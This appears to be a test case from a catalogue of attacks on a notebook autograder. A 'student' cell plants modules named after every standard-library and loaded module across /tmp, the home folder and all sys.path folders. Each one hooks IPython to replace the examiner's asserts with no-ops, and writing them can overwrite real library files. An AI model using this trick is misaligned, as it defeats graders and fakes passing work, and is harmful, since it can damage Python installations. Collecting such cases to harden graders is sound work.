# ---
# attack: leaves modules of every name beside the notebook and in /tmp for the examiner to import, which drop its asserts
# kind: extra cell
# honest: []
# gets: {ex1-test: 0, ex2-test: 0, ex3-test: 0, ex4-test: 0, ex4-test-close: 0}
# student sees: "…12.68 % a year…"
# ---
# %% before ex1
import os
import site
import sys

CODE = """
import ast, gc, sys
links = {type(thing).__name__ for thing in gc.get_objects()} & {"StudentLink", "ExaminerLink"}
open("/tmp/imported", "a").write(f"{__name__} by {links}" + chr(10))


class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


sys.modules["IPython"].get_ipython().ast_transformers.append(NoAsserts())
"""
folders = {".", "/tmp", os.path.expanduser("~"), site.getusersitepackages(), *sys.path}
names = {*sys.stdlib_module_names, *(name.partition(".")[0] for name in sys.modules), "sitecustomize", "usercustomize"}
for folder in folders:
    for name in names:
        try:
            os.makedirs(folder or ".", exist_ok=True)
            with open(f"{folder or '.'}/{name}.py", "w") as file:
                file.write(CODE)
        except OSError:
            break
# %% before ex4
print(open("/tmp/imported").read() if os.path.exists("/tmp/imported") else "nothing was imported")
